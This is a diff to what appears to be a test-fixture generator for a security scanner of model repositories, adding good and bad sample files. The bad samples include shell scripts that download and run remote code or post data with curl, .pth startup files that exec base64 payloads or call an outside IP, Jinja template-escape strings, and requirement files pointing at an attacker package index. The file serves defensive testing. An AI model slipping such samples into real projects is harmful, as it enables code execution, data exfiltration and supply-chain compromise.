@@ -53,6 +53,7 @@ ESCAPES = {
 }
 for name, escape in ESCAPES.items():
     add(f"template/bad-{name}.json", config(escape + LOOP))
+add("template/good-page.jinja", "{# layers of a model #}\n<table>{% for layer in layers %}<tr><td>{{ layer.__name__ }}</td><td>{{ layer.size.__repr__() }}</td></tr>{% endfor %}</table>\n")
 add("template/bad-escape.jinja", LOOP + ESCAPES["cycler"])
 add("template/bad-list-form.json", json.dumps({"chat_template": [{"name": "default", "template": LOOP}, {"name": "tool_use", "template": LOOP + ESCAPES["hex"]}]}))
 add("template/bad-lines-form.json", json.dumps({"chat_template": {"template": [LOOP, "{{ cycler.__init__", ".__globals__ }}"]}}))
@@ -301,6 +302,20 @@ SOURCES = {
 }
 for name, text in SOURCES.items():
     add(f"source/bad-{name}.py", text)
+# Scripts of the shell: those that train, fetch data and set up, and others.
+SCRIPTS = {
+    "good-train": "#!/bin/bash\nset -euo pipefail\nexport CUDA_VISIBLE_DEVICES=0,1\nMODEL=${1:-a/b}\nNGPU=$(nvidia-smi -L | wc -l)\nmkdir -p outputs logs\npip install -r requirements.txt\nfor seed in 1 2 3; do\n  torchrun --nproc_per_node=$NGPU train.py \\\n    --model $MODEL --seed $seed 2>&1 | tee logs/$seed.log\ndone\nif [ -d outputs ]; then\n  echo \"done\"\nfi\n",
+    "good-fetch": "#!/bin/sh\n# images, then labels\nmkdir -p data && cd data\nwget -c http://images.example.org/zips/val.zip\nunzip -q val.zip && rm val.zip\ncurl -L https://data.example.org/labels.tar.gz -o labels.tar.gz\ntar -xzf labels.tar.gz\n",
+    "good-set-up": "#!/usr/bin/env bash\nif [ ! -d llama.cpp ]; then git clone https://github.com/ggml-org/llama.cpp; fi\nconda create -n x python=3.10 -y\nhuggingface-cli download a/b --local-dir .\n",
+    "bad-only-runs": "#!/bin/sh\ntrue\n",
+    "bad-code": "#!/bin/sh\npython train.py\npython -c 'import os'\n",
+    "bad-fetch-and-run": "#!/bin/sh\nwget https://x.example/x.py\npython x.py\n",
+    "bad-sends": "#!/bin/sh\npython train.py\ncurl -d @out.txt https://x.example/\n",
+    "bad-from-variable": "#!/bin/sh\npython train.py\n\"$RUN\" now\n",
+}
+for name, text in SCRIPTS.items():
+    add(f"source/{name}.sh", text)
+add("source/good-constants.py", "#!/usr/bin/env python\n\"\"\"Languages.\"\"\"\n__version__ = '1.0'\nNAMES = {'de': 'German', 'fr': 'French'}\n")
 add("source/bad-startup.pth", "/usr/lib/x\nimport os; os.system('true')\n")
 add("source/bad-startup-exec.pth", "import base64; exec(base64.b64decode('%s'))\n" % ENCODED)
 add("source/bad-startup-network.pth", "import urllib.request as u; u.urlopen('http://203.0.113.7/x')\n")
@@ -317,6 +332,15 @@ add("source/good-prose.txt", "import of goods is regulated. See the class (below
 add("source/good-table.csv", "name,code,n\nimport os,os.system('x'),1\n\"a,b\",eval(x),2\n")
 
 # --- lists of packages ----------------------------------------------------------------------------------------------------------------
+# A brace and a quotation mark are a group and a field of a message, too.
+add("config/good-short.json", '{"atol": 1e-07, "model_name": "vgg19", "rtol": 0.001, "url": "onnx/backend/test/data/light/light_vgg19.onnx"}')
+# Addresses alone are no packages, unless their names are those of packages.
+add("list/good-addresses.txt", "https://data.example.org/cone?survey=f&RA=0\nhttp://www.example.org/data/sites.json\n# end\n")
+add("list/good-checksums.tsv", "".join(f"http://www.example.org/12/dev-{part}.tar.gz\t337926286\t{part * 8}\n" for part in "abc"))
+add("list/good-badges.md", "# Package\n\n[![Docs](https://docs.example.org/badge/x)](https://docs.example.org/x)\n")
+add("list/bad-address.txt", "http://www.example.org/x-1.0.tar.gz\n")
+add("list/bad-address-doubtful.txt", "http://203.0.113.7/x\nhttps://abc.ngrok.io/y\n")
+add("list/good-old-index.txt", "--index-url https://pypi.python.org/simple\ntorch\n")
 add("list/bad-index.txt", "--index-url http://evil.example.net/simple\ntorch==2.1.0\nnumpy\n")
 add("list/bad-extra-index.txt", "torch==2.1.0\n--extra-index-url https://evil.example.net/simple\n")
 add("list/bad-trusted-host.txt", "--trusted-host evil.example.net\ntorch\n")
